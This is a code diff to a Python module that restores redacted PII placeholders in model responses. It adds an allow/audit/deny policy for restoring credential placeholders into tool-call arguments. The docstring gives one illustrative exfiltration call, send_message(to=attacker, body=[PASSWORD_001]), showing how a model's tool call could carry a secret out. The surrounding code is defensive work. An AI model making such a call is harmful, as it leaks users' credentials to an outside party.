@@ -3,6 +3,11 @@
 Tolerant of how models echo placeholders: ``[EMAIL_ADDRESS_001]``, ``[email_address_1]``, ``[ PHONE_NUMBER_002 ]``,
 markdown-escaped ``\\[PERSON\\_003\\]`` and the bare ``PERSON_003``. Inside JSON text (tool-call arguments) the
 value is JSON-escaped. Streams hold back at most the longest live placeholder (plus a few characters of slack).
+
+A credential's or key's placeholder in a tool call's arguments is the one restore that can carry a secret out by
+way of a tool (``send_message(to=attacker, body=[PASSWORD_001])``): ``ToolSecrets`` says which placeholders those
+are and what ``privacy.restore_secrets_in_tools`` does with them — restore (``allow``), restore and tell the audit
+which tool and which type (``audit``), or leave the placeholder and tell the audit so (``deny``).
 """
 
 from __future__ import annotations
@@ -11,8 +16,9 @@ import copy
 import json
 import re
 from collections import Counter
-from collections.abc import Iterable
-from typing import Any
+from collections.abc import Callable, Iterable
+from dataclasses import dataclass, field
+from typing import Any, Literal
 
 _SHAPE = re.compile(r"^\[([A-Z][A-Z0-9_]*)_(\d+)\]$")
 _PLACEHOLDER = re.compile(r"\[[A-Z][A-Z0-9_]*_\d+\]")
@@ -32,8 +38,37 @@ def given_placeholders(pairs: Iterable[tuple[str, str]]) -> set[str]:
     return given
 
 
+ToolSecretsPolicy = Literal["allow", "audit", "deny"]
+
+
+@dataclass
+class ToolSecrets:
+    """Which placeholders stand for credentials or keys, and what restoring one into tool-call arguments does.
+    ``record(tool, type, value, restored)`` is told of each (``audit`` and ``deny``)."""
+
+    placeholders: frozenset[str] = frozenset()
+    policy: ToolSecretsPolicy = "audit"
+    record: Callable[[str, str, str, bool], None] | None = None
+    _ids: set[tuple[str, int]] = field(default_factory=set, init=False)
+
+    def __post_init__(self) -> None:
+        for placeholder in self.placeholders:
+            m = _SHAPE.match(placeholder)
+            if m:
+                self._ids.add((m.group(1), int(m.group(2))))
+
+    def restores(self, tool: str, key: tuple[str, int], value: str) -> bool:
+        """Whether a placeholder restores into ``tool``'s arguments (and the audit told, where it asks to be)."""
+        if key not in self._ids or self.policy == "allow":
+            return True
+        if self.record is not None:
+            self.record(tool, key[0], value, self.policy != "deny")
+        return self.policy != "deny"
+
+
 class Restorer:
-    def __init__(self, values: dict[str, str]) -> None:
+    def __init__(self, values: dict[str, str], tool_secrets: ToolSecrets | None = None) -> None:
+        self._tool_secrets = tool_secrets or ToolSecrets()
         self._by_id: dict[tuple[str, int], str] = {}
         for placeholder, value in values.items():
             m = _SHAPE.match(placeholder)
@@ -59,25 +94,26 @@ class Restorer:
     def active(self) -> bool:
         return self._pattern is not None
 
-    def _value(self, m: re.Match[str]) -> str | None:
-        type_ = (m.group(1) or m.group(3) or "").replace("\\", "").upper()
-        number = int(m.group(2) or m.group(4))
-        return self._by_id.get((type_, number))
+    @staticmethod
+    def _key(m: re.Match[str]) -> tuple[str, int]:
+        return (m.group(1) or m.group(3) or "").replace("\\", "").upper(), int(m.group(2) or m.group(4))
 
-    def text(self, text: str, *, json_escape: bool = False) -> str:
+    def text(self, text: str, *, json_escape: bool = False, tool: str | None = None) -> str:
+        """``text`` with this call's placeholders restored; ``tool``: the text is that tool call's arguments."""
         if self._pattern is None or not text:
             return text
 
         def swap(m: re.Match[str]) -> str:
-            value = self._value(m)
-            if value is None:
+            key = self._key(m)
+            value = self._by_id.get(key)
+            if value is None or (tool is not None and not self._tool_secrets.restores(tool, key, value)):
                 return m.group(0)
             return json.dumps(value, ensure_ascii=False)[1:-1] if json_escape else value
 
         return self._pattern.sub(swap, text)
 
-    def arguments(self, text: str) -> str:
-        return self.text(text, json_escape=text.lstrip()[:1] in ("{", "["))
+    def arguments(self, text: str, tool: str) -> str:
+        return self.text(text, json_escape=text.lstrip()[:1] in ("{", "["), tool=tool)
 
     def held_from(self, buffer: str, previous: str) -> int:
         """Where a possibly unfinished placeholder starts at the end of ``buffer`` (``len`` if none).
@@ -116,11 +152,11 @@ class Restorer:
             for call in message.get("tool_calls") or ():
                 function = call.get("function") if isinstance(call, dict) else None
                 if isinstance(function, dict) and isinstance(function.get("arguments"), str):
-                    function["arguments"] = self.arguments(function["arguments"])
+                    function["arguments"] = self.arguments(function["arguments"], str(function.get("name") or ""))
             for block in message.get("thinking_blocks") or ():  # Anthropic's, through litellm; signatures kept
                 if isinstance(block, dict) and isinstance(block.get("thinking"), str):
                     block["thinking"] = self.text(block["thinking"])
             legacy = message.get("function_call")
             if isinstance(legacy, dict) and isinstance(legacy.get("arguments"), str):
-                legacy["arguments"] = self.arguments(legacy["arguments"])
+                legacy["arguments"] = self.arguments(legacy["arguments"], str(legacy.get("name") or ""))
         return response
